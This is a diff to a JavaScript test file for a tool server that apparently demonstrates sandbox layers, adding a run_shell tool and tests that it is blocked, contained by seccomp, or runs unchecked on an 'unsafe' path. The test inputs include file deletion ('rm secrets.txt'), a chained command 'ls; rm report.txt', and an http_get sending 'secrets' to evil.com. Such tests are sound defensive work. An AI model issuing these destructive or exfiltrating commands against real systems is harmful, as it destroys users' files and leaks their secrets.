@@ -53,9 +53,10 @@ check('initialize: the server offers tools',
 
 const { tools } = await client.listTools();
 const names = tools.map((t) => t.name).sort();
-check('tools/list: the six tools',
+check('tools/list: the seven tools',
     JSON.stringify(names) === JSON.stringify(['delete_file', 'http_get',
-	'list_files', 'read_file', 'run_code', 'write_file']), names);
+	'list_files', 'read_file', 'run_code', 'run_shell', 'write_file']),
+    names);
 check('tools/list: every tool has an object inputSchema and outputSchema',
     tools.every((t) => t.inputSchema?.type === 'object' &&
 	t.outputSchema?.type === 'object' && t.description.length > 0));
@@ -74,6 +75,12 @@ check('tools/list: list_files needs no arguments (an optional path)',
     (byName.list_files.inputSchema.required ?? []).length === 0 &&
     Object.keys(byName.list_files.inputSchema.properties).join() === 'path',
     byName.list_files.inputSchema);
+
+check('tools/list: run_shell needs cmd, a string, and nothing else',
+    JSON.stringify(byName.run_shell?.inputSchema.required) === '["cmd"]' &&
+    Object.keys(byName.run_shell.inputSchema.properties).join() === 'cmd' &&
+    byName.run_shell.inputSchema.properties.cmd.type === 'string',
+    byName.run_shell?.inputSchema);
 
 const call = (name, args) => client.callTool({ name, arguments: args });
 
@@ -124,6 +131,20 @@ check('delete_file: refused by the command allowlist',
     text(r).includes('BLOCKED by the command allowlist: delete_file is not allowed ' +
         '(read_file, write_file are)') &&
     r.structuredContent.reason === 'delete_file is not allowed (read_file, write_file are)', r);
+
+r = await call('run_shell', { cmd: 'rm secrets.txt' });
+check('run_shell: refused by the command allowlist on the sandbox path',
+    r.isError === true && r.structuredContent.layer === 'commands' &&
+    text(r).includes('BLOCKED by the command allowlist: run_shell is not allowed ' +
+        '(read_file, write_file are)') &&
+    r.structuredContent.fs.includes('secrets.txt'), r);
+
+r = await call('run_code', { code: '!ls', path: 'jail' });
+check("run_code '!ls' on the jail path: the shell's execve is CONTAINED by seccomp",
+    r.isError === true && r.structuredContent.verdict === 'contained' &&
+    r.structuredContent.layer === 'seccomp' &&
+    r.structuredContent.input === '!ls' &&
+    text(r).includes('starting a program (execve) is forbidden'), r);
 
 r = await call('http_get', { url: 'https://evil.com/x', body: 'secrets' });
 check('http_get: refused on the sandbox path',
@@ -206,5 +227,21 @@ check('--budget=1: the second operation is blocked by the budget',
     r.isError === false && r3.isError === true &&
     r3.structuredContent.layer === 'budget', r3);
 await c2.client.close();
+
+// ---- the shell tool where it runs: the unsafe path's real /bin/sh ----
+const c3 = await connect(['--path=unsafe']);
+r = await c3.client.callTool({ name: 'run_shell', arguments: { cmd: 'ls; rm report.txt' } });
+check('run_shell on the unsafe path: the listing is the output, the rm landed',
+    r.isError === false && r.structuredContent?.verdict === 'landed' &&
+    r.structuredContent.input === "run_shell({'cmd': 'ls; rm report.txt'})" &&
+    r.content?.[1]?.text === 'report.txt\nsecrets.txt\n' &&
+    !r.structuredContent.fs.includes('report.txt'), r);
+r = await c3.client.callTool({ name: 'run_code', arguments: { code: '!ls' } });
+check("run_code '!ls' on the unsafe path: what is left, listed by sh",
+    r.isError === false && r.content?.[1]?.text === 'secrets.txt\n', r);
+r = await c3.client.callTool({ name: 'run_shell', arguments: { cmd: '  ' } });
+check('run_shell with no command line is an error result that says so',
+    r.isError === true && text(r).includes('needs a command line'), r);
+await c3.client.close();
 
 process.exit(failed ? 1 : 0);
